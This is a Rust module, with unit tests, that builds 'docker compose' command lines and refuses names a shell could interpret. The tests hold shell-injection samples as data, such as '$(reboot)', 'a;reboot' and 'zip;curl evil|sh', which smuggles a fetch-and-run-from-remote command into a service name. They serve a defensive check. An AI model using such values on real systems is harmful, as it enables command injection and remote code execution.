//! Command lines that people copy. Names come from labels and log lines, which may be made to run
//! something else: one that a shell could act on enters none.

pub use super::shell_word::is_safe;
use super::{Snapshot, StackName};

/// What recreates one service, as a verb of [`compose`].
pub const RECREATE: &str = "up -d --force-recreate --no-deps";

/// `docker compose -p hub --project-directory /srv/hub up -d db`, which works in any directory; only
/// in that of the project where it is not known. `None` where a name is not safe.
#[must_use]
pub fn compose(
    snapshot: &Snapshot,
    stack: &StackName,
    verb: &str,
    service: Option<&str>,
) -> Option<String> {
    let project = snapshot.stacks.iter().find(|each| each.name == *stack);
    let directory = project.and_then(|each| each.working_dir.as_deref());
    let mut words = vec!["docker compose -p", safe(stack.as_str())?];
    if let Some(directory) = directory {
        words.extend(["--project-directory", safe(directory)?]);
    }
    words.push(verb);
    if let Some(service) = service {
        words.push(safe(service)?);
    }
    Some(words.join(" "))
}

fn safe(value: &str) -> Option<&str> {
    is_safe(value).then_some(value)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{Stack, Timestamp, Totals};

    #[test]
    fn what_a_shell_would_run_is_not_put_into_a_command() {
        for (value, expected) in [
            ("/var/lib/data", true),
            ("DB_URL", true),
            ("registry:5000/app:1.2", true),
            ("$(reboot)", false),
            ("a;reboot", false),
            ("a b", false),
            ("`x`", false),
            ("-rf", false),
            ("", false),
        ] {
            assert_eq!(is_safe(value), expected, "{value}");
        }
    }

    #[test]
    fn a_compose_command_names_its_project_or_does_not_exist() {
        for (stack, directory, service, expected) in [
            (
                "hub",
                Some("/srv/hub"),
                Some("db"),
                Some("docker compose -p hub --project-directory /srv/hub up -d db"),
            ),
            (
                "hub",
                None,
                Some("db"),
                Some("docker compose -p hub up -d db"),
            ),
            ("hub", None, None, Some("docker compose -p hub up -d")),
            ("hub", None, Some("zip;curl evil|sh"), None),
            ("hub", Some("/srv/$(reboot)"), Some("db"), None),
            ("hub", Some("/srv/my hub"), None, None),
            ("--help", None, Some("db"), None),
        ] {
            let mut snapshot = Snapshot::empty(Timestamp::UNIX_EPOCH);
            snapshot.stacks = vec![Stack {
                name: stack.into(),
                totals: Totals::default(),
                working_dir: directory.map(str::to_owned),
            }];
            let command = compose(&snapshot, &stack.into(), "up -d", service);
            assert_eq!(
                command.as_deref(),
                expected,
                "{stack} {directory:?} {service:?}"
            );
        }
    }
}
